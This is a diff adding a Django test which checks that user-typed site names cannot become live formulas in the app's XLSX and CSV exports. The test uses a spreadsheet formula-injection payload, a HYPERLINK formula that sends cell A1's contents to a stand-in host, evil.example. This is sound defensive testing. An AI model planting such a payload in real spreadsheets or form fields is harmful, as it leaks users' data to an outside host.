@@ -244,6 +244,23 @@ def test_the_xlsx_holds_the_dashboards_figures(client, dataset, coordinator):
     assert [c.value for c in partners[2]][:7] == ["janvier 2024", "Mission locale", 1, 2, 1, 1, 1]
 
 
+def test_names_typed_by_users_never_become_formulas(client, dataset, operator, coordinator):
+    site = operator.sites.get(name="Place A")
+    site.name = '=HYPERLINK("http://evil.example/?"&A1)'
+    site.save()
+    client.force_login(coordinator)
+    workbook = load_workbook(
+        io.BytesIO(client.get(reverse("reporting:export_xlsx"), YEAR_QUERY).content)
+    )
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
+    assert not [cell.value for cell in cells if cell.data_type == "f"]
+    assert site.name in [cell.value for cell in cells]
+    content = client.get(reverse("reporting:export_csv"), YEAR_QUERY).content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(content), delimiter=";"))
+    assert "'" + site.name in [row[1] for row in rows]
+    assert not [row for row in rows if any(cell.startswith(("=", "@")) for cell in row)]
+
+
 def test_the_csv_lists_every_figure(client, dataset, operator, make_member):
     client.force_login(make_member(operator, Role.VIEWER))
     content = client.get(reverse("reporting:export_csv"), YEAR_QUERY).content.decode("utf-8-sig")
